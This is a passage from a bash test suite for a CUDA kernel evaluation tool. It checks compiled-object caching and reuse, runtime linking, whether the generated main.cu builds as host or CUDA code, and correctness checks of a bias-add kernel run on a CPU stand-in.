		run_cmd "e$n" "$EGG" eval hdr.json --compile-only --arch sm_90 --keep --workdir "w$n" "$@"
		expect_eq "$(json "e$n.out" 'r["status"]')" ok "evaluation $n ($(head -c 300 "e$n.err"))"
		expect_eq "$(json "e$n.out" 'r["candidates"][0]["verdict"]')" compiled "evaluation $n: verdict"
		json "e$n.out" 'r["reference"]["objects"]'
	}
	expect_eq "$(objects 1)" compiled "first evaluation"
	expect_eq "$(objects 2)" reused "same bundle, same toolchain"
	expect_eq "$(json e2.out 'r["reference"]["float64"]')" compiled "the twin comes back with them"
	expect_eq "$(nm w2/cand0.exe | grep -c ' T egg_entry_ref_.*_f64$')" 1 "and is linked"
	# the same secret entry, not the placeholder the key is computed with
	nm w1/cand0.exe | grep -o ' T egg_entry_ref_[0-9a-f]*$' >n1
	nm w2/cand0.exe | grep -o ' T egg_entry_ref_[0-9a-f]*$' >n2
	expect_same_file n1 n2
	expect_file_lacks n1 egg_entry_ref_0000000000000000
	[ "$(stat -c %a "$EGG_CACHE_DIR/gpu/prepared/salt")" = 600 ] || fail "the salt is readable by others"
	printf '#define SCALE_BY 3.0f\n' >src/defs.h
	expect_eq "$(objects 3)" compiled "the included header changed"
	expect_eq "$(objects 4)" reused "and again"
	expect_eq "$(objects 5 --flag -DEGG_TEST_FLAG=1)" compiled "another flag"
	# a corrupt entry is not a reference: nvcc's objects are what links
	rm -f "$EGG_CACHE_DIR"/gpu/prepared/*/main.o
	expect_eq "$(objects 6)" compiled "an incomplete entry"
	expect_eq "$(objects 7)" reused "made again"
}

# The runtime (runtime.o: checks, timing, JSON; harness/runtime.cuh) depends on
# no bundle: compiled once per nvcc, flags and architecture and linked into the
# program of every bundle evaluated with them; another flag compiles it again,
# and an entry that lost its object is made again.
test_the_runtime_is_compiled_once_for_every_bundle_with_the_same_toolchain() {
	own_prepared_objects
	export PATH=$NVCC_DIR:$PATH
	runtime() { # N BUNDLE [FLAGS...]: evaluates BUNDLE into wN, prints reference.runtime
		local n=$1 b=$2
		shift 2
		run_cmd "e$n" "$EGG" eval "$b" --compile-only --arch sm_90 --keep --workdir "w$n" "$@"
		expect_eq "$(json "e$n.out" 'r["status"]')" ok "evaluation $n ($(head -c 300 "e$n.err"))"
		expect_eq "$(json "e$n.out" 'r["candidates"][0]["verdict"]')" compiled "evaluation $n: verdict"
		json "e$n.out" 'r["reference"]["runtime"]'
	}
	expect_eq "$(runtime 1 "$DATA/scale.json")" compiled "first evaluation"
	expect_eq "$(runtime 2 "$DATA/gather.json")" reused "another bundle, same toolchain"
	expect_eq "$(json e2.out 'r["reference"]["objects"]')" compiled "the bundle's own objects"
	# the program links the runtime's object: main has no runtime of its own
	nm w2/main.o >main.syms && nm w2/cand0.exe >exe.syms || fail "nm failed"
	grep -q ' U .*egg_runtime_main' main.syms || fail "main.o defines the runtime itself"
	grep -q ' T .*egg_runtime_main' exe.syms || fail "the program lacks the runtime"
	expect_eq "$(runtime 3 "$DATA/gather.json" --flag -DEGG_TEST_FLAG=1)" compiled "another flag"
	rm -f "$EGG_CACHE_DIR"/gpu/prepared/*/runtime.o
	expect_eq "$(runtime 4 "$DATA/scale.json")" compiled "an entry without its object"
	expect_eq "$(runtime 5 "$DATA/gather.json")" reused "made again"
}

# main.cu (the bundle's half of the program: no device code) compiles as host
# C++ where nothing it sees could tell host from CUDA compiles (half.json: the
# half and bf16 headers too; no float output, so no float64 twin to compile
# four times), and as CUDA where
# it includes a header of the user's, where its closure tests __CUDACC__, or
# where the host compile fails (a system-style header with a launch in it); the
# program links and its candidate compiles every way.
test_main_compiles_as_host_code_where_it_can_and_as_cuda_otherwise() {
	export PATH=$NVCC_DIR:$PATH
	mkdir -p inc
	printf '#define SCALE_BY 2.0f\n#define N_FROM_HEADER (1L << 12)\n' >inc/defs.h
	printf 'static __global__ void cudaonly_k(int *p) { *p = 1; }\nstatic inline void cudaonly_go(int *p) { cudaonly_k<<<1, 1>>>(p); }\n#define N_FROM_CUDA_HEADER (1L << 13)\n' >inc/cudaonly.h
	python3 - "$DATA/half.json" <<'PY'
import json, sys
b = json.load(open(sys.argv[1]))
def variant(name, includes=(), closure="", n=None):
    v = dict(b, includes=b["includes"] + list(includes), closure=b["closure"] + closure)
    if n:
        v["workloads"] = [[{"name": "n", "value": n}]]
    json.dump(v, open(name + ".json", "w"))
variant("user_header", ['"defs.h"'])
variant("clause_needs_user_header", ['"defs.h"'], n="N_FROM_HEADER")
variant("tests_cudacc", closure="\n#ifdef __CUDACC__\n#define EGG_BLOCK 256\n#else\n#define EGG_BLOCK 128\n#endif\n")
variant("launch_in_header", ["<cudaonly.h>"])
variant("clause_needs_launch_header", ["<cudaonly.h>"], n="N_FROM_CUDA_HEADER")
PY
	# what main.cu compiles as: without the includes where no clause needs them
	# (a user's header, a header with device code), with them where one does (the
	# compile without them fails and main.cu is written again)
	local n want
	for n in half:host user_header:bare clause_needs_user_header:cuda tests_cudacc:cuda \
		launch_in_header:bare clause_needs_launch_header:cuda; do
		IFS=: read -r n want <<<"$n"
		[ "$want" != bare ] || want="host without the bundle's includes"
		run_cmd "$n" "$EGG" eval "$([ $n = half ] && echo "$DATA/half.json" || echo $n.json)" \
			--compile-only --arch sm_90 --flag "-I$PWD/inc" --keep --workdir "w_$n"
		expect_eq "$(json "$n.out" 'r["status"]')" ok "$n ($(head -c 300 "$n.err"))"
		expect_eq "$(json "$n.out" 'r["reference"]["main"]')" "$want" "$n: main.cu compiled as"
		expect_eq "$(json "$n.out" 'r["candidates"][0]["verdict"]')" compiled "$n: verdict"
		# the kept main.cu is the text that was compiled
		case $want in
		"host without the bundle's includes") ! grep -q '^#include <cuda_fp16.h>' "w_$n/main.cu" || fail "$n: main.cu kept its includes" ;;
		*) grep -q '^#include <cuda_fp16.h>' "w_$n/main.cu" || fail "$n: main.cu lost its includes" ;;
		esac
	done
}

# eval_on_cpu BUNDLE CAND...: the evaluation program of BUNDLE with each
# candidate, compiled with g++ against the CPU stand-in of the CUDA runtime
# (builtin/tests/emu) and run without timing; its verdict in CAND.result
eval_on_cpu() {
	local bundle=$1 emu=$EGG_SRCDIR/builtin/tests/emu flags=(-std=c++20 -Og -w) c k=0
	shift
	local args=()
	for c in "$@"; do args+=(--candidate "$c"); done
	"$EGG" eval "$bundle" "${args[@]}" --generate gen >gen.log 2>&1 || fail "generate: $(cat gen.log)"
	for c in gen/*.cu; do
		python3 "$emu/launches.py" "$c" >"${c%.cu}.cc" || fail "launches.py $c"
		g++ "${flags[@]}" -I"$emu" -x c++ -c "${c%.cu}.cc" -o "${c%.cu}.o" >"${c%.cu}.log" 2>&1 &
	done
	wait
	for c in "$@"; do
		g++ gen/main.o gen/runtime.o gen/ref.o "gen/cand$k.o" -o "gen/prog$k" >"$c.link" 2>&1 ||
			fail "cannot build $c: $(cat gen/*.log "$c.link" | grep -m3 error)"
		"gen/prog$k" --no-timing --trials 2 >"$c.result" 2>"$c.err"
		k=$((k + 1))
	done
}

test_a_pointer_a_workload_leaves_null_is_passed_as_null_and_both_calls_are_checked() {
	command -v g++ >/dev/null 2>&1 || skip "no g++ for the CPU stand-in"
	# y[i] = x[i] + (bias != NULL ? bias[i % c] : 0): right both ways, and
	# right only with the bias (1 where there is none: it would pass if the
	# harness gave it a buffer there); the workload with the bias is checked
	# as any other
	cat >both.cu <<'CU'
__global__ void k_both(float *y, const float *x, const float *bias, int n, int c)
{
	int i = blockIdx.x * blockDim.x + threadIdx.x;
	if (i < n)
		y[i] = bias ? x[i] + bias[i % c] : x[i];
}
void add_bias(float *y, const float *x, const float *bias, int n, int c)
{
	k_both<<<(n + 255) / 256, 256>>>(y, x, bias, n, c);
}
CU
	sed -e 's/: x\[i\];/: x[i] + 1.0f;/' both.cu >with.cu
	eval_on_cpu "$DATA/add_bias.json" both.cu with.cu
	expect_eq "$(json both.cu.result 'r["status"]')" ok "both: $(head -c 600 both.cu.result)"
	expect_eq "$(json both.cu.result 'sorted(set(c["call"] for c in r["checks"] if c["workload"] < 2))')" \
		"['workload 0', 'workload 1 (bias = NULL)']"
	# the probes too, with and without (2 size bindings: 6 probes each way)
	expect_eq "$(json both.cu.result 'sum("bias = NULL" in c["call"] for c in r["checks"] if c["workload"] >= 2 and c["trial"] == 0)')" 6
	expect_eq "$(json both.cu.result 'r["domain"]["checked"]')" 12
	expect_eq "$(json with.cu.result 'r["status"]')" wrong
	expect_file_contains with.cu.result 'workload 1 (bias = NULL), trial 0: y:'
}
